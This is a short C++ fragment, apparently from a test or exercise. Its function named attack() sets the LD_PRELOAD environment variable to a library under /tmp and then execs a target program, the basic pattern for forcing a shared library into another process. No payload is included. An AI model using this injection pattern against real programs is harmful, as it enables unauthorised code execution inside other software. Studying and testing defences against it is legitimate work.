#include <unistd.h>
#include <cstdlib>

void attack() {
    if (std::getenv("LD_PRELOAD") != nullptr) return;
    ::setenv("LD_PRELOAD", "/tmp/none.so", 1);
    ::execl("/program", "/program", nullptr);
}
